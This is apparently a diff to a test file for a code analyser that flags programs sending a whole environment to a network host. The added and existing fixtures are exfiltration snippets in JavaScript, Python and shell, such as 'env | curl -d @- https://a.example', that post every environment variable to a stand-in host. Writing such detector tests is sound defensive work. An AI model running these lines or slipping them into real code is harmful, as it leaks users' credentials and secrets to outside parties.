@@ -35,6 +35,16 @@ it.each([
     'fetch("https://a.example", { method: "POST", body: JSON.stringify({ e: process.env }) })',
   ],
   ['without an import', 'a.py', 'requests.post("https://a.example", json={"e": dict(os.environ)})'],
+  [
+    'one after the other',
+    'a.js',
+    'const o = {}; for (const k of Object.keys(process.env)) o[k] = process.env[k]\nfetch("https://a.example", { body: JSON.stringify(o) })',
+  ],
+  [
+    'each by its name',
+    'a.py',
+    'import os, requests\no = {}\nfor k in os.environ:\n    o[k] = os.environ[k]\nrequests.post("https://a.example", json=o)',
+  ],
   ['what a command prints', 'a.sh', 'env | curl -d @- https://a.example'],
 ])('the whole is sent: %s', async (_, path, text) => {
   expect(flows(await factsOf({ [path]: text }, [whole]))).not.toEqual([])
@@ -58,11 +68,7 @@ it.each([
     'a.js',
     'const e = schema.parse(process.env)\nfetch("https://a.example", { headers: { x: e.KEY } })',
   ],
-  [
-    'taken apart',
-    'a.js',
-    'const { KEY } = process.env\nfetch("https://a.example", { headers: { x: KEY } })',
-  ],
+  ['taken apart', 'a.js', 'const { KEY } = process.env\nfetch("https://a.example", { headers: { x: KEY } })'],
   [
     'handed to a program',
     'a.py',
